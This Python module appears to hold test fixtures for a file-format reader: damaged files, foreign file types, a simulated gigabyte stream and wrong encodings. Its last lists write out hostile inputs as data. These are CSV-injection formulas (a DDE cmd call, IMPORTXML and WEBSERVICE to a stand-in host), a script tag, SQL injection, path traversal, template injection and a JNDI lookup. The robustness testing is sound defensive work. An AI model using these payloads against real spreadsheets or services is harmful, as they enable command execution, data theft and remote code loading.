"""What is done to a format's own sample, and what must become of it: the words in which the tables are written."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from io import RawIOBase
from typing import Final, Literal

#: Refused as a whole; the damaged record alone, its neighbours taken; or taken in full, for the damage means nothing.
Verdict = Literal["whole", "record", "harmless"]


@dataclass(frozen=True)
class Damage:
    """One kind of damage.

    Attributes:
        name: Read as "a file with …".
        verdict: What becomes of the file.
        content: The damaged file.
        why: For what is taken nevertheless: why that is right.
        elsewhere: Another verdict, for some formats.
    """

    name: str
    verdict: Verdict
    content: "bytes | Endless"
    why: str = ""
    elsewhere: Mapping[str, Verdict] = field(default_factory=dict)

    def expected(self, form: str) -> Verdict:
        return self.elsewhere.get(form, self.verdict)


class Endless(RawIOBase):
    """A file with a gigabyte in its middle, which is never held.

    Args:
        head: Its first bytes.
        fill: One byte, repeated.
        size: How often.
        tail: Its last bytes.
    """

    def __init__(self, head: bytes, fill: bytes, size: int, tail: bytes) -> None:
        super().__init__()
        self._head, self._size, self._tail = head, size, tail
        self._block = fill * (1 << 20)
        self._at = 0

    def seekable(self) -> bool:
        return True

    def readable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        end = len(self._head) + self._size + len(self._tail)
        self._at = offset + (0, self._at, end)[whence]
        return self._at

    def read(self, size: int = -1) -> bytes:
        assert size >= 0, "nobody may ask for all of it"
        found = self._from(self._at, size)
        self._at += len(found)
        return found

    def _from(self, at: int, size: int) -> bytes:
        middle = at - len(self._head)
        if middle < 0:
            return self._head[at : at + size]
        if middle < self._size:
            return self._block[: min(size, self._size - middle)]
        return self._tail[middle - self._size :][:size]

    def readline(self, size: int | None = -1) -> bytes:
        assert size is not None
        assert size >= 0, "nobody may ask for all of it"
        found = b""
        while len(found) < size and (more := self._from(self._at, size - len(found))):
            line, newline, _ = more.partition(b"\n")
            found += line + newline
            self._at += len(line + newline)
            if newline:
                break
        return found


GIGABYTE: Final = 1 << 30
#: Files of other kinds, as people send them by mistake or on purpose.
STRANGERS: Final = {
    "a zip archive": b"PK\x03\x04" + b"\0" * 60,
    "an old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "a gzip file": b"\x1f\x8b\x08\0" + b"\0" * 20,
    "a PDF": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
    "an image": b"\x89PNG\r\n\x1a\n" + b"\0" * 60,
    "a program": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "a web page": b"<!doctype html>\n<html><body><h1>502 Bad Gateway</h1></body></html>\n",
    "a mail": b"From: a@b.invalid\nContent-Type: text/plain\n\nVoir la piece jointe.\n",
    "an error in words": b"ORA-01555: snapshot too old\n",
    "zeros": b"\0" * 4_096,
    "spaces": b" " * 4_096,
    "newlines": b"\n" * 4_096,
    "nothing": b"",
    "a byte order mark alone": b"\xef\xbb\xbf",
    "half a byte order mark": b"\xef\xbb",
    "all bytes": bytes(range(256)) * 16,
}


def strangers() -> Iterator[Damage]:
    """Every format refuses them whole."""
    for name, content in STRANGERS.items():
        yield Damage(name, "whole", content)


def encoded(text: str, *names: str) -> Iterator[Damage]:
    """The file in encodings that are not its own."""
    for name in names:
        yield Damage(f"the encoding {name}", "whole", text.encode(name, "replace"))


#: Texts that a spreadsheet would run (OWASP, "CSV Injection").
FORMULAS: Final = (
    "=1+1", '=HYPERLINK("http://x.invalid","x")', "@SUM(1+1)*cmd", "+cmd(' /C calc')", "-cmd(x)",
    '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://x.invalid")', '=WEBSERVICE("http://x.invalid")',
)  # fmt: skip
#: Texts that are odd and mean no harm.
ODD: Final = {
    "an emoji": "\U0001f600", "right to left": "\u202eabc", "an accent on an accent": "e" + "\u0301" * 200,
    "a script tag": "<script>alert(1)</script>", "a query": "' OR 1=1 --", "a format": "%s%n{0}{x}",
    "a path": "../../etc/passwd", "a line separator": "a\u2028b", "a zero width joiner": "a\u200db",
    "a private character": "\ue000", "a noncharacter": "\uffff", "a control character": "a\x07b",
    "an escape sequence": "\x1b[31mred", "a template": "{{7*7}}${7*7}", "a lookup": "${jndi:ldap://x.invalid/a}",
}  # fmt: skip
